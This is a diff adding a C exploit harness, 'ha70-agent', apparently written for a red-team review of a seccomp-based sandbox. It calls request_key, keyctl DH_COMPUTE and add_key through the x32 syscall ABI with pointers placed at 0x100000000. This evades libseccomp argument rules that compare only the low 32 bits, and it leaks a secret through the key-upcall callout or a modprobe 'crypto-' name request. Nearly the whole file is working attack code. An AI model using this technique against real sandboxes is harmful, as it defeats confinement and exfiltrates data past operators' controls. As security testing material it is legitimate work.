@@ -1,0 +1,137 @@
+/* ha70-agent: hostile review h-attack70, issue 11's classes as fresh
+ * variants against da918e4. One static binary, a mode a run; prints
+ * "ha70 MODE ..." lines with each call's answer.
+ *
+ *   ha70-agent x32-rk SECRET hi|lo
+ *       request_key("user", "ha70:SECRET", callout) on the x32 ABI
+ *       (nr 249 | 0x40000000), callout the string SECRET. hi: the string
+ *       is at 0x100000000, a pointer whose low 32 bits are 0; lo: in the
+ *       binary's data (the control). libseccomp builds x32 rules as a
+ *       32-bit architecture (arch-x32.c: ARCH_SIZE_32) and compares only
+ *       the low word of an argument, while the x32 entry of request_key is
+ *       the native one and reads all 64 bits of the pointer.
+ *   ha70-agent x32-kdf SECRET hi|lo
+ *       keyctl(KEYCTL_DH_COMPUTE, params, buf, 64, kdf) on the x32 ABI,
+ *       kdf (its hash name SECRET) at 0x100000000 (hi) or in the data
+ *       (lo): the hash is allocated before any key is looked up, and an
+ *       unknown one runs kernel.modprobe for "crypto-SECRET".
+ *   ha70-agent x32-addkey SECRET hi|lo
+ *       add_key("user", "ha70:SECRET", payload, len, KEY_SPEC_PROCESS_KEYRING)
+ *       on the x32 ABI, the payload at 0x100000000 (hi) or in the data
+ *       (lo): shows the rule's blindness only (the "user" type allocates
+ *       nothing by name; an "asymmetric" certificate would).
+ *
+ * Nothing here sends to the network itself: the ground truth is the sink of
+ * the cell's stand-in helper (key-upcall's, modprobe-name's).
+ */
+#include <errno.h>
+#include <linux/keyctl.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define X32 0x40000000L
+/* arch/x86/entry/syscalls/syscall_64.tbl: common entries, the x32 table
+ * reaches the native handler with the same number. */
+#define NR_ADD_KEY 248
+#define NR_REQUEST_KEY 249
+#define NR_KEYCTL 250
+#define HIGH ((void *)0x100000000UL)
+
+struct kdf_params {
+	char *hashname;
+	char *otherinfo;
+	uint32_t otherinfolen;
+	uint32_t spare[8];
+};
+
+/* A page at HIGH (hi) or a static buffer (lo) to hold n bytes. */
+static void *place(const char *where, size_t n)
+{
+	static char low[4096] __attribute__((aligned(64)));
+	void *p;
+
+	if (strcmp(where, "lo") == 0)
+		return n <= sizeof(low) ? low : NULL;
+	p = mmap(HIGH, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE,
+		 -1, 0);
+	if (p != HIGH) {
+		printf("ha70 mmap at %p failed: %s\n", HIGH, strerror(errno));
+		return NULL;
+	}
+	return p;
+}
+
+static int x32_rk(const char *secret, const char *where)
+{
+	char desc[256];
+	char *callout = place(where, strlen(secret) + 1);
+	long r;
+
+	if (!callout)
+		return 2;
+	strcpy(callout, secret);
+	snprintf(desc, sizeof(desc), "ha70:%s", secret);
+	errno = 0;
+	r = syscall(X32 | NR_REQUEST_KEY, "user", desc, callout, KEY_SPEC_PROCESS_KEYRING);
+	printf("ha70 x32-rk %s callout=%p -> %ld %s\n", where, (void *)callout, r,
+	       r < 0 ? strerror(errno) : "ok");
+	return 0;
+}
+
+static int x32_kdf(const char *secret, const char *where)
+{
+	static char hash[128], buf[64];
+	static struct keyctl_dh_params params = {.private = 1, .prime = 2, .base = 3};
+	struct kdf_params *kdf = place(where, sizeof(*kdf));
+	long r;
+
+	if (!kdf)
+		return 2;
+	snprintf(hash, sizeof(hash), "%s", secret);
+	memset(kdf, 0, sizeof(*kdf));
+	kdf->hashname = hash;
+	errno = 0;
+	r = syscall(X32 | NR_KEYCTL, KEYCTL_DH_COMPUTE, &params, buf, sizeof(buf), kdf);
+	printf("ha70 x32-kdf %s kdf=%p -> %ld %s\n", where, (void *)kdf, r,
+	       r < 0 ? strerror(errno) : "ok");
+	return 0;
+}
+
+static int x32_addkey(const char *secret, const char *where)
+{
+	char desc[256];
+	size_t n = strlen(secret);
+	char *payload = place(where, n);
+	long r;
+
+	if (!payload)
+		return 2;
+	memcpy(payload, secret, n);
+	snprintf(desc, sizeof(desc), "ha70:%s", secret);
+	errno = 0;
+	r = syscall(X32 | NR_ADD_KEY, "user", desc, payload, n, KEY_SPEC_PROCESS_KEYRING);
+	printf("ha70 x32-addkey %s payload=%p -> %ld %s\n", where, (void *)payload, r,
+	       r < 0 ? strerror(errno) : "ok");
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	int rc = 2;
+
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc == 4 && strcmp(argv[1], "x32-rk") == 0)
+		rc = x32_rk(argv[2], argv[3]);
+	else if (argc == 4 && strcmp(argv[1], "x32-kdf") == 0)
+		rc = x32_kdf(argv[2], argv[3]);
+	else if (argc == 4 && strcmp(argv[1], "x32-addkey") == 0)
+		rc = x32_addkey(argv[2], argv[3]);
+	else
+		fprintf(stderr, "usage: ha70-agent x32-rk|x32-kdf|x32-addkey SECRET hi|lo\n");
+	return rc;
+}
